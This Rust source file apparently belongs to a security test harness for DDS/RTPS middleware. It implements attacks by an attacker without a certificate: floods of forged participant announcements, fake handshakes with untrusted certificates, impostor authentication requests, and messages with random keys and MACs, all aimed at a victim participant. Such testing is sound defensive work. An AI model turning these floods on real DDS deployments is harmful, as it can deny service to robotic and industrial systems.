//! Attacks on DDS Security itself, by an attacker without a certificate of the domain.

use std::thread;
use std::time::Duration;

use anyhow::Result;
use peregrine_rtps::discovery::data::{BuiltinEndpointSet, OpaqueValue, ParticipantSecurityData};
use peregrine_rtps::id::{EntityId, Guid, GuidPrefix};
use peregrine_rtps::qos::UserData;
use peregrine_rtps::vendor::{ProtocolVersion, VendorId};
use peregrine_rtps::wire::{
    CryptoContent, CryptoFooter, CryptoHeader, Endianness, InfoDestination, InfoSource, InlineQos, SubmessageId,
};
use peregrine_security::issue::{Authority, IssuedKey, KeyChoice, SubjectName};
use peregrine_security::message::{
    DataHolder, GenericMessage, MessageHead, MessageIdentity, auth_request_token, identity_token, names,
    permissions_token,
};

use crate::control::Target;
use crate::documents::{authority, terms};
use crate::field::{Field, Forged};
use crate::forge::{ENDIANNESS, Forge};
use crate::limits::HANDSHAKE_BYTES_OF_ADDRESS;

/// AES256-GCM and AES256-GMAC, which encrypt and sign.
const ENCRYPTING: [u8; 4] = [0, 0, 0, 4];
const SIGNING: [u8; 4] = [0, 0, 0, 3];
/// Time between two announcements of which each gets as much as possible.
const SPARSE: Duration = Duration::from_millis(10);
/// Bytes of user data in an announcement: with them, it pays for the request of a handshake.
const USER_DATA_BYTES: usize = 300;
/// Messages of a handshake in the name of each stranger.
const MESSAGES_OF_STRANGER: i64 = 6;
/// Bytes of a permissions document, a public key of P-256, a challenge, a signature, and a key with its head.
const DOCUMENT_BYTES: usize = 1500;
const PUBLIC_KEY_BYTES: usize = 65;
const CHALLENGE_BYTES: usize = 32;
const SIGNATURE_BYTES: usize = 70;
const KEY_MATERIAL_BYTES: usize = 88;
/// Bytes of the longest body of a message in the form of a protected one.
const BODY_BYTES_MAX: usize = 1200;

pub(super) fn identities(field: &mut Field<'_>) -> Result<()> {
    announce_identities(field, false, Duration::ZERO)
}

/// A flood exhausts the budget for all participants. So few announcements get all that one participant can.
pub(super) fn sparse_identities(field: &mut Field<'_>) -> Result<()> {
    announce_identities(field, false, SPARSE)
}

pub(super) fn identities_that_name_victim(field: &mut Field<'_>) -> Result<()> {
    announce_identities(field, true, Duration::ZERO)
}

fn announce_identities(field: &mut Field<'_>, names_victim: bool, pause: Duration) -> Result<()> {
    let mut stranger = field.stranger(Target::Open)?;
    field.entitled_bytes += HANDSHAKE_BYTES_OF_ADDRESS;
    field.begin();
    while field.lasts() {
        renew(field, &mut stranger, true);
        field.hearers += u64::from(names_victim);
        let message = with_identity(&stranger.forge, names_victim);
        field.meta(&stranger, &message);
        thread::sleep(pause);
    }
    Ok(())
}

/// Gives a participant a new random prefix. The participant with the lower one begins the handshake.
fn renew(field: &mut Field<'_>, stranger: &mut Forged, victim_begins: bool) {
    let mut prefix: [u8; 12] = random(field);
    prefix[0] = if victim_begins { 0xff } else { 0 };
    stranger.forge.prefix = GuidPrefix(prefix);
}

/// The announcement of a participant that can be authenticated.
fn with_identity(forge: &Forge, names_victim: bool) -> Vec<u8> {
    let mut data = forge.participant_data();
    data.builtin_endpoints = data.builtin_endpoints.with(BuiltinEndpointSet::SECURITY);
    data.user_data = UserData(vec![9; USER_DATA_BYTES]);
    data.security = Some(Box::new(ParticipantSecurityData {
        identity_token: opaque(&identity_token()),
        permissions_token: opaque(&permissions_token()),
        info: None,
        identity_status_token: None,
    }));
    forge.announcement_of(&data, names_victim.then_some(forge.victim))
}

fn opaque(token: &DataHolder) -> Option<OpaqueValue> {
    let [little, big] = [Endianness::Little, Endianness::Big].map(|endianness| {
        let mut out = Vec::new();
        token.emit(endianness, &mut out);
        out
    });
    OpaqueValue::new(&little, &big)
}

pub(super) fn handshakes_of_strangers(field: &mut Field<'_>) -> Result<()> {
    let (mut stranger, foreign) = (field.stranger(Target::Open)?, foreign_certificate()?);
    field.entitled_bytes += HANDSHAKE_BYTES_OF_ADDRESS;
    field.begin();
    let mut number = 0;
    while field.lasts() {
        if number % MESSAGES_OF_STRANGER == 0 {
            let victim_begins = field.rng.bool();
            renew(field, &mut stranger, victim_begins);
            let message = with_identity(&stranger.forge, true);
            field.meta(&stranger, &message);
        }
        number += 1;
        let message = handshake(field, &stranger.forge, &foreign, number);
        field.meta(&stranger, &message);
    }
    Ok(())
}

pub(super) fn handshakes_of_impostor(field: &mut Field<'_>) -> Result<()> {
    let foreign = foreign_certificate()?;
    flood(field, |field, forge, number| handshake(field, forge, &foreign, number))
}

/// A certificate that the victim can read, of an authority that it does not trust.
fn foreign_certificate() -> Result<Vec<u8>> {
    let key = IssuedKey::generate(KeyChoice::P256)?;
    let certificate = authority("Foreign", 3)?.issue(&SubjectName::new("hostile", "stranger"), &key, terms(4)?)?;
    Ok(Authority::to_pem(&certificate).into_bytes())
}

/// A request, a reply or the last message in turn. Every second one has a certificate, and the others random bytes.
fn handshake(field: &mut Field<'_>, forge: &Forge, foreign: &[u8], number: i64) -> Vec<u8> {
    let [challenge1, challenge2] = [CHALLENGE_BYTES; 2].map(|len| bytes(field, len));
    let signature = bytes(field, SIGNATURE_BYTES);
    let of_side = |field: &mut Field<'_>, class, public_key| {
        let certificate = if field.rng.bool() { foreign.to_vec() } else { bytes(field, foreign.len()) };
        let mut data = Vec::new();
        forge.participant_data().emit(&mut data);
        let mut key = bytes(field, PUBLIC_KEY_BYTES);
        // Neither coordinate is compressed.
        key[0] = 4;
        DataHolder::new(class)
            .with(names::CERTIFICATE, &certificate)
            .with(names::PERMISSIONS_DOCUMENT, &bytes(field, DOCUMENT_BYTES))
            .with(names::PARTICIPANT_DATA, &data)
            .with(names::SIGNATURE_ALGORITHM, b"ECDSA-SHA256")
            .with(names::AGREEMENT_ALGORITHM, b"ECDH+prime256v1-CEUM")
            .with(public_key, &key)
    };
    let token = match number % 3 {
        0 => of_side(field, names::HANDSHAKE_REQUEST, names::DH_1).with(names::CHALLENGE_1, &challenge1),
        1 => of_side(field, names::HANDSHAKE_REPLY, names::DH_2)
            .with(names::CHALLENGE_1, &challenge1)
            .with(names::CHALLENGE_2, &challenge2)
            .with(names::SIGNATURE, &signature),
        _ => DataHolder::new(names::HANDSHAKE_FINAL)
            .with(names::CHALLENGE_1, &challenge1)
            .with(names::CHALLENGE_2, &challenge2)
            .with(names::SIGNATURE, &signature),
    };
    stateless(forge, names::AUTH_MESSAGE, token, number)
}

pub(super) fn auth_requests(field: &mut Field<'_>) -> Result<()> {
    flood(field, |field, forge, number| {
        let token = auth_request_token(&random(field));
        stateless(forge, names::AUTH_REQUEST_MESSAGE, token, number)
    })
}

/// A message of the channel for handshakes.
fn stateless(forge: &Forge, class: &str, token: DataHolder, number: i64) -> Vec<u8> {
    let (to, from) = (EntityId::STATELESS_MESSAGE_READER, EntityId::STATELESS_MESSAGE_WRITER);
    let payload = generic(forge, from, class, token, number);
    forge.directed(|out| forge.data(to, from, number, &InlineQos::default(), &payload, out))
}

/// The payload of a message between participants. It answers the message of the victim with the same number.
fn generic(forge: &Forge, writer: EntityId, class: &str, token: DataHolder, number: i64) -> Vec<u8> {
    let identity = |prefix| MessageIdentity { source: Guid::new(prefix, writer), sequence_number: number };
    let head = MessageHead {
        identity: identity(forge.prefix),
        related: identity(forge.victim),
        destination_participant: Guid::new(forge.victim, EntityId::PARTICIPANT),
        ..MessageHead::default()
    };
    GenericMessage { head, class_id: class.to_owned(), data: vec![token] }.to_bytes()
}

/// Messages in the name of the honest peer to the victim's port for discovery, and every second one to that for user
/// data as well.
fn flood(field: &mut Field<'_>, message: impl Fn(&mut Field<'_>, &Forge, i64) -> Vec<u8>) -> Result<()> {
    let impostor = field.impostor()?;
    field.begin();
    let mut number = 0;
    while field.lasts() {
        number += 1;
        let message = message(field, &impostor.forge, number);
        field.meta(&impostor, &message);
        if number % 2 == 0 {
            field.user(&impostor, &message);
        }
    }
    Ok(())
}

/// In turn: an encrypted message, a signed message with a HEARTBEAT and an ACKNACK, and an encrypted submessage.
pub(super) fn protected(field: &mut Field<'_>) -> Result<()> {
    flood(field, |field, forge, number| {
        let count = i32::try_from(number).unwrap_or(i32::MAX);
        match number % 3 {
            0 => {
                let body = random_body(field);
                whole(field, forge, ENCRYPTING, |out| CryptoContent(&body).emit(ENDIANNESS, out))
            }
            1 => whole(field, forge, SIGNING, |out| {
                let (version, vendor, prefix) = (ProtocolVersion::V2_5, VendorId::PEREGRINE, forge.prefix);
                InfoSource { version, vendor, prefix }.emit(ENDIANNESS, out);
                InfoDestination { prefix: forge.victim }.emit(ENDIANNESS, out);
                forge.says_it_has(number, number, count, out);
                forge.acknack(number, 0, count, out);
            }),
            _ => {
                let key = random(field);
                encrypted_submessage(field, forge, key)
            }
        }
    })
}

/// A message that is protected as a whole, with a random key and MAC.
fn whole(field: &mut Field<'_>, forge: &Forge, kind: [u8; 4], content: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    let header = CryptoHeader { kind, key_id: random(field), session_id: random(field), suffix: random(field) };
    let mut out = forge.header();
    header.emit(SubmessageId::SRTPS_PREFIX, ENDIANNESS, &mut out);
    content(&mut out);
    CryptoFooter::emit(SubmessageId::SRTPS_POSTFIX, ENDIANNESS, &random(field), core::iter::empty(), &mut out);
    out
}

/// A message with an encrypted submessage, with a random content and MAC.
fn encrypted_submessage(field: &mut Field<'_>, forge: &Forge, key_id: [u8; 4]) -> Vec<u8> {
    let header = CryptoHeader { kind: ENCRYPTING, key_id, session_id: random(field), suffix: random(field) };
    let (body, mac) = (random_body(field), random(field));
    forge.directed(|out| {
        header.emit(SubmessageId::SEC_PREFIX, ENDIANNESS, out);
        CryptoContent(&body).emit(ENDIANNESS, out);
        CryptoFooter::emit(SubmessageId::SEC_POSTFIX, ENDIANNESS, &mac, core::iter::empty(), out);
    })
}

/// In turn: random keys of the peer, HEARTBEATs with ACKNACKs and GAPs of its writer and reader, and an encrypted
/// submessage. The channel has a key of its own, which every message names by zeros.
pub(super) fn key_messages(field: &mut Field<'_>) -> Result<()> {
    let (to, from) = (EntityId::VOLATILE_SECURE_READER, EntityId::VOLATILE_SECURE_WRITER);
    flood(field, |field, forge, number| {
        let count = i32::try_from(number).unwrap_or(i32::MAX);
        match number % 3 {
            0 => {
                let token = DataHolder::new(names::CRYPTO).with(names::KEY_MATERIAL, &bytes(field, KEY_MATERIAL_BYTES));
                let payload = generic(forge, from, names::PARTICIPANT_CRYPTO_TOKENS, token, number);
                forge.directed(|out| forge.data(to, from, number, &InlineQos::default(), &payload, out))
            }
            1 => {
                let (mut forge, number) = (forge.clone(), number * 100);
                (forge.reader, forge.victim_reader) = (to, to);
                (forge.writer, forge.victim_writer) = (from, from);
                forge.directed(|out| {
                    forge.says_it_has(number, number, count, out);
                    forge.acknack(number, 0, count, out);
                    forge.gap(1, number, out);
                })
            }
            _ => encrypted_submessage(field, forge, [0; 4]),
        }
    })
}

fn random<const LEN: usize>(field: &mut Field<'_>) -> [u8; LEN] {
    std::array::from_fn(|_| field.rng.u8(..))
}

fn bytes(field: &mut Field<'_>, len: usize) -> Vec<u8> {
    std::iter::repeat_with(|| field.rng.u8(..)).take(len).collect()
}

fn random_body(field: &mut Field<'_>) -> Vec<u8> {
    let len = field.rng.usize(16..BODY_BYTES_MAX);
    bytes(field, len)
}
